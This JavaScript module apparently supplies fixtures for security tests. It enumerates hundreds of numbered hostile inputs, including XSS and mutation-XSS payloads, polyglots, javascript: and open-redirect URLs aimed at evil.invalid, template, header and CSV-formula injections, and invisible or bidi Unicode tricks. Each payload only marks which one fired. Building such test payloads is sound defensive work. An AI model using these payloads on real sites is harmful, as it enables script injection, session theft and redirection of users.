// What strangers write. Each text, if a page takes it for markup, calls `top.__pwned` or leaves an element with data-pwned; each
// has a number of its own (`top.__pwned=17`), so that what fired is known by name and no two are alike.

/** In place of the number of each text. */
const N = "%N%";
const CALL = `top.__pwned=${N}`;
const IMG = `<img data-pwned src=x onerror=${CALL}>`;
const SVG = `<svg data-pwned onload=${CALL}>`;
const SCRIPT = `<script data-pwned>${CALL}</script>`;

/** What ends whatever a text may stand in, with each of three elements behind. */
const BREAKS = ["\">", "'>", "`>", ">", "</title>", "</textarea>", "</style>", "</script>", "-->", "--!>", "]]>", "</noscript>", "</template>",
  "</select>", "</bdi></code></td></tr></table></main>", "</svg>", "</math>", "\"'`>\n", "*/", "?>", "%>", "</option></select>"]
  .flatMap((end) => [SCRIPT, IMG, SVG].map((element) => end + element));

const ELEMENTS = [
  SCRIPT, IMG, SVG, `<ScRiPt>${CALL}</sCrIpT>`, `<script >${CALL}</script >`, `<script/x>${CALL}</script>`, `<scr<script>ipt>${CALL}</script>`,
  `<script src=//evil.invalid/${N}.js></script>`, `<script src="data:text/javascript,${CALL}"></script>`, `<script type=module>${CALL}</script>`,
  `<img/src=x/onerror=${CALL}>`, `<img src=x onerror\n=\n"${CALL}">`, `<IMG SRC=x ONERROR="${CALL}">`, `<img src="x" onerror='${CALL}' alt=a`,
  `<image src=x onerror=${CALL}>`, `<video data-pwned src=x onerror=${CALL}></video>`, `<video><source onerror=${CALL} src=x></video>`,
  `<audio data-pwned src=x onerror=${CALL}>`, `<body data-pwned onload=${CALL}>`, `<input data-pwned autofocus onfocus=${CALL}>`,
  `<select data-pwned autofocus onfocus=${CALL}>`, `<textarea data-pwned autofocus onfocus=${CALL}>`, `<details data-pwned open ontoggle=${CALL}>x`,
  `<marquee data-pwned onstart=${CALL}>x</marquee>`, `<iframe data-pwned srcdoc="<script>${CALL}</script>"></iframe>`,
  `<iframe data-pwned src="javascript:${CALL}"></iframe>`, `<iframe data-pwned src=//evil.invalid/${N}></iframe>`, `<object data-pwned data=//evil.invalid/${N}></object>`,
  `<embed data-pwned src=//evil.invalid/${N}>`, `<base data-pwned href=//evil.invalid/${N}/>`, `<link data-pwned rel=stylesheet href=//evil.invalid/${N}.css>`,
  `<meta data-pwned http-equiv=refresh content="0;url=//evil.invalid/${N}">`, `<form data-pwned action=//evil.invalid/${N}><button>go</button></form>`,
  `<a data-pwned href="javascript:${CALL}">x</a>`, `<a data-pwned href=//evil.invalid/${N}>x</a>`, `<button data-pwned formaction=javascript:${CALL}>x</button>`,
  `<p data-pwned onmouseover=${CALL}>x</p>`, `<p data-pwned style="position:fixed;inset:0" onclick=${CALL}>x</p>`,
  `<xss data-pwned tabindex=1 autofocus onfocus=${CALL}>`, `<dialog data-pwned open onclose=${CALL}>x</dialog>`, `<custom-x data-pwned contenteditable>${N}`,
];

const FOREIGN_MARKUP = [
  `<svg><script data-pwned>${CALL}</script></svg>`, `<svg data-pwned><a xlink:href="javascript:${CALL}"><text y=9>x</text></a></svg>`,
  `<svg data-pwned><animate onbegin=${CALL} attributeName=x dur=1s>`, `<svg data-pwned><set onbegin=${CALL} attributeName=x>`,
  `<svg data-pwned><image href=//evil.invalid/${N}.png></svg>`, `<svg data-pwned><use href="data:image/svg+xml,<svg id=x />#x"></use>${N}</svg>`,
  `<svg><foreignObject><img data-pwned src=x onerror=${CALL}></foreignObject></svg>`, `<math data-pwned><maction xlink:href="javascript:${CALL}">x</maction></math>`,
  `<math><mi><img data-pwned src=x onerror=${CALL}></mi></math>`, `<style data-pwned>@import "//evil.invalid/${N}.css";</style>`,
  `<style data-pwned>*{background:url(//evil.invalid/${N}.png)}</style>`, `<style>*{display:none}</style data-pwned ${N}>`,
  // What sanitisers and parsers read differently (mutation XSS).
  `<noscript><p title="</noscript><img data-pwned src=x onerror=${CALL}>">`, `<svg></p><style><a title="</style><img data-pwned src=x onerror=${CALL}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img data-pwned title="--&gt;&lt;img src=x onerror=${CALL}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img data-pwned src=x onerror=${CALL}>`, `<template><s><template><s><img data-pwned src=x onerror=${CALL}>`,
  `<table><td><svg><desc><td></svg><img data-pwned src=x onerror=${CALL}>`, `<select><option><style></option></select><img data-pwned src=x onerror=${CALL}></style>`,
  `<!--><img data-pwned src=x onerror=${CALL}>-->`, `<!-- ${N} --!><img data-pwned src=x onerror=${CALL}>`, `<![CDATA[><img data-pwned src=x onerror=${CALL}>]]>`,
  `<?x ><img data-pwned src=x onerror=${CALL}>?>`, `<!--[if gte IE 4]><script>${CALL}</script><![endif]-->`, `<!--${N}`, `<plaintext data-pwned>${N}`, `<xmp>${N}`, `<listing><img data-pwned src=x onerror=${CALL}>`,
];

const ATTRIBUTES = [
  `" onmouseover="${CALL}`, `' onmouseover='${CALL}`, ` onmouseover=${CALL} `, `" autofocus onfocus="${CALL}`, `' autofocus onfocus='${CALL}`,
  `x autofocus onfocus=${CALL} x=`, `" accesskey=x onclick="${CALL}`, `" style="animation-name:x" onanimationstart="${CALL}`, `" data-pwned="${N}`,
  `' data-pwned='${N}`, `x data-pwned=${N}`, `" srcdoc="<script>${CALL}</script>`, `" formaction="javascript:${CALL}`, `"/onload=${CALL}//`, `\` onerror=${CALL} \``,
  `" onerror="${CALL}" x="`, `' onerror='${CALL}' x='`, `x onerror=${CALL} x`, `\\" onerror=\\"${CALL}`, `&quot; onerror=&quot;${CALL}`, `&#39; onerror=&#39;${CALL}`,
];

const ADDRESSES = [
  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, `java\tscript:${CALL}`, `java\nscript:${CALL}`, ` javascript:${CALL}`, `\u0001javascript:${CALL}`, `javascript://%0a${CALL}`,
  `javascript:/*-/*\`/*\\\`/*'/*"/**/(${CALL})//`, `javascript&colon;${CALL}`, `javascript&#58;${CALL}`, `&#106;avascript:${CALL}`, `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD4${N}`, `data:image/svg+xml,<svg onload="${CALL}" xmlns="http://www.w3.org/2000/svg"/>`, `vbscript:msgbox(${N})`, `blob:null/${N}`,
  `//evil.invalid/${N}`, `///evil.invalid/${N}`, `/\\evil.invalid/${N}`, `\\\\evil.invalid\\${N}`, `https://evil.invalid/${N}`, `https:evil.invalid/${N}`, `/\t/evil.invalid/${N}`,
  `http://localhost@evil.invalid/${N}`, `/../../..//evil.invalid/${N}`, `.//evil.invalid/${N}`, `/%2f/evil.invalid/${N}`, `/%5cevil.invalid/${N}`, `?to=//evil.invalid/${N}`, `#<img src=x onerror=${CALL}>`,
  `../../admin?${N}`, `..%2f..%2fadmin${N}`, `%3Cscript%3E${CALL}%3C/script%3E`, `%22%3E%3Cimg src=x onerror=${CALL}%3E`, `%u003cimg src=x onerror=${CALL}>`,
];

const SCRIPTS = [
  `';${CALL};//`, `";${CALL};//`, `\`;${CALL};//`, `\${${CALL}}`, `\\';${CALL};//`, `</script><script>${CALL}//`, `'-(${CALL})-'`, `"-(${CALL})-"`, `\u2028${CALL}//`, `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `{"__proto__":{"pwned":${N}}}`, `constructor.constructor("${CALL}")()`, `{{constructor.constructor('${CALL}')()}}`, `[[${CALL}]]`, `#{${CALL}}`, `*{x:expression(${CALL})}`,
];

const TEMPLATES = [
  `{{ 7*7 }}${N}`, `{{ frame.csrf() }}${N}`, `{% include "layout.html" %}${N}`, `{% raw %}${IMG}{% endraw %}`, `{{ "${IMG}"|safe }}`, `{# ${N} #}`, `{ $n } ${N}`, `{ -brand }${N}`, `{ NUMBER($x) }${N}`, `x = { $x ->\n*[a] ${N} }`,
  `<%= ${N} %>`, `\${7*7}${N}`, `%{${N}}`, `%s%n%x${N}`, `$(id)${N}`, `\`id\`${N}`, `{0}${N}`, `@${N}`, `{{DeviceId}}${N}`,
];

const ENTITIES = [
  `&lt;img src=x onerror=${CALL}&gt;`, `&#60;img src=x onerror=${CALL}&#62;`, `&#x3c;img src=x onerror=${CALL}&#x3e;`, `&amp;lt;img src=x onerror=${CALL}&amp;gt;`, `&lt${N}`, `&NewLine;${N}&Tab;`, `&nbsp;&shy;&zwj;${N}`, `&bogus;&${N};`,
  `\uff1cimg src=x onerror=${CALL}\uff1e`, `\u02c2script\u02c3${CALL}\u02c2/script\u02c3`, `\u2039img src=x onerror=${CALL}\u203a`, `\u3008script\u3009${N}`, `\u00bcscript\u00be${CALL}\u00bc/script\u00be`, `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `\u017fcript <\u017fcript>${CALL}</\u017fcript>`, `\u212aelvin ${N}`, `<\u0130mg src=x onerror=${CALL}>`, `\u0440\u0430ypal-${N}`, `\ud83e\uddd1\u200d\ud83d\ude80${N}`,
];

const UNSEEN = [
  `\u202e${N}gnp.exe`, `a\u202eb\u2066c\u2069${N}`, `\u2067${N}\u2069`, `\u200b\u200c\u200d${N}`, `\ufeff${N}`, `\u00ad${N}`, `\u2060${N}`, `\u{e0041}${N}`, `a\u0000b${N}`, `<scr\u0000ipt>${CALL}</scr\u0000ipt>`, `\u001b[31m${N}\u001b[8m`, `\u001b]0;${N}\u0007`,
  `\u0008\u0008${N}`, `a\nb${N}`, `a\r\nb${N}`, `a\u0085b${N}`, `\u2028${N}\u2029`, `<img src=x\u000conerror=${CALL}>`, `<svg\u000bonload=${CALL}>`, `<a\u0000 href=x data-pwned>${N}`, `\u0300\u0301\u0302`.repeat(20) + N,
];

const HEADERS = [
  `x\r\nx-pwned: ${N}`, `x\nset-cookie: pwned=${N}`, `x%0d%0aset-cookie: pwned=${N}`, `x\r\n\r\n<script>${CALL}</script>`, `x\u560d\u560aset-cookie: pwned=${N}`, `"; filename="${N}.html`, `a"; x=${N}; b="`, `; Path=/; Domain=evil.invalid; pwned=${N}`,
];

const FORMULAS = [
  `=HYPERLINK("//evil.invalid/${N}","x")`, `=cmd|'/c calc'!A${N}`, `+${N}+cmd|' /C calc'!A0`, `-${N}+3`, `@SUM(${N})`, `\t=${N}`, `\r=${N}`, `\n=${N}`, `"=${N}`, `',=${N}`, `x",=${N},"`, `;=${N}`, `|=${N}`, ` =${N}`, `\uff1d${N}`, `%0A=${N}`,
];

const LONG = [`${"A".repeat(5_000)}${N}`, `${N}${"<b>".repeat(1_000)}`, `${N}${"\ud83e\uddd1\u200d".repeat(900)}`, `${N}${"&lt;".repeat(800)}`, `${N}${" ".repeat(900)}x`, `${"../".repeat(300)}${N}`, `${"<i data-pwned>".repeat(150)}${N}`];

const POLYGLOTS = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${CALL} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${CALL}//>\\x3e`,
  `">><marquee><img src=x onerror=${CALL}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${CALL}>`, `'"--></style></script><svg data-pwned onload=${CALL}>`, `"'><img src=x onerror=${CALL}>{{7*7}}\${7*7}`,
  `-->'"/></sCript><svG x=">" onload=(${CALL})>`, `</script></title></textarea></style></noscript><img data-pwned src=x onerror=${CALL}>`,
];

const SHELVES = { BREAKS, ELEMENTS, FOREIGN_MARKUP, ATTRIBUTES, ADDRESSES, SCRIPTS, TEMPLATES, ENTITIES, UNSEEN, HEADERS, FORMULAS, LONG, POLYGLOTS };

/** All of them, numbered from 1000: so many figures that none is part of another number on a page by chance. */
export const PAYLOADS = Object.entries(SHELVES).flatMap(([kind, texts]) => texts.map((text) => ({ kind, text })))
  .map(({ kind, text }, index) => ({ kind, number: 1000 + index, text: text.replaceAll(N, String(1000 + index)) }));

/** A payload by its place, which may go round and round: fields take different ones. */
export const at = (index) => PAYLOADS[((index % PAYLOADS.length) + PAYLOADS.length) % PAYLOADS.length].text;
export const COUNT = PAYLOADS.length;

/** The beginning of a text, without half a character at its end. */
export const cut = (text, most) => text.slice(0, most).toWellFormed();

/** What a reader cannot see: the server's own list (`is_invisible`), written anew. */
const INVISIBLE = /[\p{Cc}\u00ad\u061c\u115f\u1160\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff\uffa0\ufff0-\uffff\u{1bca0}-\u{1bca3}\u{e0000}-\u{e0fff}]/gu;
/** Without it. */
export const visible = (text) => text.replace(INVISIBLE, "");
